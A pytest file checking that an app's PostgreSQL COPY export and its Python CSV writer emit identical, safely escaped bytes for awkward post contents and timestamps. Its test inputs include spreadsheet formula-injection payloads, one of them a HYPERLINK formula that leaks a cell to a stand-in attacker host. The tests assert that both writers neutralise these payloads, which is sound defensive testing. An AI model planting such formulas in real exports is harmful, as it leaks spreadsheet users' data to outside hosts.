"""PostgreSQL's COPY (``pg_copy``) and the Python CSV writer (``writers.write_csv``)
write the same bytes for the same rows: cells with commas, quotes and line
breaks, cells a spreadsheet would run as formulas (neutralised by both), non-ASCII
text, empty and NULL-looking cells, and times across the calendar; on a database
whose sessions default to another client encoding and time zone too."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

import pytest

from app import auth
from app.db import db
from app.exports import pg_copy, service
from app.exports.writers import write_csv
from app.models import Post

pytestmark = pytest.mark.postgres

HOSTILE = [
    # separators, quotes and line breaks
    "a,b", ",", 'say "hi"', '"', '""', "line\nbreak", "crlf\r\nline", "\r", "\n",
    "trailing newline\n", 'a,"b"\nc',
    # a spreadsheet would run these
    "=1+1", '=HYPERLINK("https://evil.example/?"&A1,"open")', "+1", "-1", "@SUM(A1:A9)",
    "\t=1", "\r=1", "=", "'=1", " =1", "a=1", "\uff1d1",
    # non-ASCII
    "Grüße", "naïve, café", "東京", "🚀", "e\u0301", "مرحبا", "\u200b=1", "\ufeff=1",
    "\u2028", "\u0085", "\x7f", "\x1b[31mred",
    # empty and NULL-looking
    "", " ", "NULL", "null", "\\N", "None", "NaN", "''",
    # COPY's own escapes and end-of-data marker mean nothing in CSV output
    "\\", "\\.", "C:\\path\\", "a\\,b",
    # longer than a COPY chunk
    "x" * 70_000 + ",",
]  # fmt: skip
TIMES = [
    datetime(2026, 11, 21, 12, 30, 45, 123456, tzinfo=UTC),
    datetime(2026, 3, 29, 1, 30, tzinfo=UTC),  # microseconds 0; a DST change in Europe
    datetime(1, 1, 1, tzinfo=UTC),
    datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
    datetime(1890, 6, 1, 0, 0, 0, 1, tzinfo=timezone(timedelta(hours=5, minutes=30))),
]
# (cell, as both must write it)
EXPECTED_FIELDS = [
    ("a,b", b'"a,b"'),
    ('say "hi"', b'"say ""hi"""'),
    ("lone\rCR", b'"lone\rCR"'),
    ("=1+1", b"'=1+1"),
    ("\t=1", b"'\t=1"),
    ("Grüße", "Grüße".encode()),
    ("", b'""'),
    ("NULL", b"NULL"),
    ("\\.", b"\\."),
]


def _rows(user_id: int) -> list[tuple]:
    """Hostile posts of the user, committed; the rows as the Python writer is given them."""
    cells = HOSTILE + [cell for cell, _ in EXPECTED_FIELDS]
    posts = [
        Post(user_id=user_id, body=cell, created_at=TIMES[n % len(TIMES)])
        for n, cell in enumerate(cells)
    ]
    db.session.add_all(posts)
    db.session.commit()
    return [(post.id, post.body, post.created_at) for post in posts]


def _both(user_id: int, rows, tmp_path) -> tuple[bytes, bytes]:
    from_copy, from_python = tmp_path / "copy.csv", tmp_path / "python.csv"
    pg_copy.write_posts_csv(str(from_copy), user_id, lambda count: None)
    write_csv(str(from_python), service.COLUMNS, [rows[:7], rows[7:]])
    return from_copy.read_bytes(), from_python.read_bytes()


def _assert_same(from_copy: bytes, from_python: bytes, rows) -> None:
    # Line by line first, so that a difference names its cell
    for line_of_copy, line_of_python in zip(
        from_copy.split(b"\n"), from_python.split(b"\n"), strict=False
    ):
        assert line_of_copy == line_of_python
    assert from_copy == from_python
    checked = rows[-len(EXPECTED_FIELDS) :]
    for (post_id, _, _), (cell, field) in zip(checked, EXPECTED_FIELDS, strict=True):
        assert b"\n%d,%s," % (post_id, field) in from_copy, cell


def test_copy_and_the_python_writer_write_the_same_bytes(live_app, tmp_path, monkeypatch):
    # COPY in batches of 4, so that batches meet between rows
    monkeypatch.setattr(pg_copy, "BATCH_ROWS", 4)
    with live_app.app_context():
        user = auth.create_user("cells@example.com", "a long enough password")
        rows = _rows(user.id)

        # When both writers export the same posts
        from_copy, from_python = _both(user.id, rows, tmp_path)

    # Then the files are the same, byte for byte
    _assert_same(from_copy, from_python, rows)


def test_copy_writes_utf8_in_utc_whatever_the_sessions_defaults(live_app, postgres, tmp_path):
    with live_app.app_context():
        user = auth.create_user("latin@example.com", "a long enough password")
        rows = _rows(user.id)
        db.engine.dispose()
        # Given a database whose sessions default to LATIN1 and a time zone other than UTC
        with postgres.connect() as connection:
            connection.autocommit = True
            for setting in ("client_encoding = 'LATIN1'", "timezone = 'Asia/Kolkata'"):
                connection.execute(f"ALTER DATABASE {postgres.name} SET {setting}")

        # When both writers export the posts
        from_copy, from_python = _both(user.id, rows, tmp_path)

    # Then COPY's file is UTF-8 with UTC times, as the Python writer's
    _assert_same(from_copy, from_python, rows)
